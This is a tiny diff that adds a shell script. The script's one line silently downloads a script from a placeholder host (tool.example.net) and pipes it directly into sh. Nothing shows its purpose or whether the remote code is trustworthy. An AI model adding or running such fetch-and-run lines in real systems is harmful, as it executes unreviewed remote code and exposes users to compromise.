@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://tool.example.net/i.sh | sh
